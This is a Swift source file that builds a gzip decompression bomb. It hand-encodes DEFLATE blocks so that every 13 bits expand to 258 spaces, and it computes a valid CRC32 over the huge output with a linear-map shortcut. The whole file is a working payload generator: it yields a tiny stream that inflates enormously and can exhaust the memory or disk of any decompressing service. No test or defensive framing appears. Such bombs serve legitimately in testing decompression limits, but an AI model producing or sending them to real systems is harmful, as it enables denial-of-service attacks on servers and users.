/// A gzip stream (RFC 1951, RFC 1952) of a text with very much white space in it: 13 bits of it become 258 spaces.
struct GzipBomb {
  private var bytes: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
  private var bits: UInt32 = 0
  private var bitCount: UInt32 = 0

  /// The stream of `head`, so many spaces, and `tail`.
  static func make(head: [UInt8], spaces count: Int, tail: [UInt8]) -> [UInt8] {
    var bomb = GzipBomb()
    bomb.addStored(head, isLast: false)
    bomb.addSpaces(count)
    bomb.addStored(tail, isLast: true)
    var sum = CRC32()
    sum.add(head)
    sum.add(spaces: count)
    sum.add(tail)
    bomb.addWord(sum.value)
    bomb.addWord(UInt32(truncatingIfNeeded: head.count + count + tail.count))
    return bomb.bytes
  }

  /// Blocks of bytes as they are, of at most 65,535 each.
  private mutating func addStored(_ part: [UInt8], isLast: Bool) {
    var rest = part[...]
    repeat {
      let piece = rest.prefix(65_535)
      rest = rest.dropFirst(piece.count)
      add(isLast && rest.isEmpty ? 1 : 0, 3)
      if bitCount > 0 { add(0, 8 - bitCount) }
      let size = UInt8(piece.count & 255)
      let high = UInt8(piece.count >> 8)
      bytes += [size, high, ~size, ~high] + piece
    } while !rest.isEmpty
  }

  /// A block with the fixed code: spaces, and repetitions of the one before, 258 at a time.
  private mutating func addSpaces(_ count: Int) {
    guard count > 0 else { return }
    add(0b010, 3)
    for _ in 0...((count - 1) % 258) { add(0x0A, 8) }
    for _ in 0..<((count - 1) / 258) { add(0xA3, 13) }
    add(0, 7)
  }

  /// The lowest bits of a value, lowest first.
  private mutating func add(_ value: UInt32, _ count: UInt32) {
    bits |= value << bitCount
    bitCount += count
    while bitCount >= 8 {
      bytes.append(UInt8(truncatingIfNeeded: bits))
      bits >>= 8
      bitCount -= 8
    }
  }

  private mutating func addWord(_ word: UInt32) {
    for shift in stride(from: UInt32(0), to: 32, by: 8) {
      bytes.append(UInt8(truncatingIfNeeded: word >> shift))
    }
  }
}

/// The checksum of gzip (RFC 1952 §8).
private struct CRC32 {
  private var state: UInt32 = 0xFFFF_FFFF

  var value: UInt32 { ~state }

  mutating func add(_ bytes: [UInt8]) {
    for byte in bytes { state = CRC32.step(state, byte) }
  }

  /// As many steps with the same byte are one linear map and a constant, so that a block's is found once.
  mutating func add(spaces count: Int) {
    let block = 4096
    let space = UInt8(ascii: " ")
    func run(_ state: UInt32) -> UInt32 { (0..<block).reduce(state) { state, _ in CRC32.step(state, space) } }
    let constant = run(0)
    let columns = (0..<32).map { run(1 << UInt32($0)) ^ constant }
    for _ in 0..<(count / block) {
      let before = state
      state = constant
      for bit in 0..<32 where before >> UInt32(bit) & 1 == 1 { state ^= columns[bit] }
    }
    for _ in 0..<(count % block) { state = CRC32.step(state, space) }
  }

  private static func step(_ state: UInt32, _ byte: UInt8) -> UInt32 {
    var state = state ^ UInt32(byte)
    for _ in 0..<8 { state = state >> 1 ^ (state & 1 == 1 ? 0xEDB8_8320 : 0) }
    return state
  }
}
